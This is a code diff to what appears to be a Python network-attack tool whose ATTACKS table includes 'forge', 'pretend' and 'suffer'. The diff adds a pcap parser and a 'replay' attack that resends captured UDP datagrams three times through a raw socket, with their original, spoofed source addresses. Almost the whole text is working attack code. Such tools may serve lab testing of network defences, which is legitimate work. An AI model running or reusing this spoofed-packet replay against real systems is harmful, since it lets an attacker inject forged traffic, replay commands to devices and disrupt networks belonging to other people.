@@ -327,6 +327,36 @@ def forge(kind, device_type, victim, count, rate):
     say("done", size)
 
 
+def recorded(path, *to):
+    """The UDP datagrams of a recording of an Ethernet that went to one of the addresses: (source, destination, payload)."""
+    with open(path, "rb") as opened:
+        data = opened.read()
+    at = 24  # behind the head of the file
+    while at + 16 <= len(data):
+        (length,) = struct.unpack_from("<I", data, at + 8)
+        packet = data[at + 16 + 14 : at + 16 + length]
+        at += 16 + length
+        if len(packet) < 28 or packet[0] >> 4 != 4 or packet[9] != socket.IPPROTO_UDP:
+            continue
+        source, destination = socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20])
+        udp = packet[(packet[0] & 15) * 4 :]
+        ports = struct.unpack(">HH", udp[:4])
+        if destination in to:
+            yield (source, ports[0]), (destination, ports[1]), udp[8:]
+
+
+def replay(path, *to):
+    """Sends recorded datagrams again as they came: each with its source, and in their order."""
+    datagrams = list(recorded(path, *to))
+    say("ready")
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+        for _ in range(3):
+            for source, destination, payload in datagrams:
+                raw.sendto(forged(source, destination, payload), destination)
+                time.sleep(0.002)
+    say("done", len(datagrams), "datagrams")
+
+
 def suffer():
     """Counts the bytes of the IP packets for this host. Prints the sum for each line of standard input."""
     received = 0
@@ -380,6 +410,7 @@ ATTACKS = {
     "pretend": pretend,
     "connect": connect,
     "forge": forge,
+    "replay": replay,
     "suffer": suffer,
     "foreign": foreign,
 }
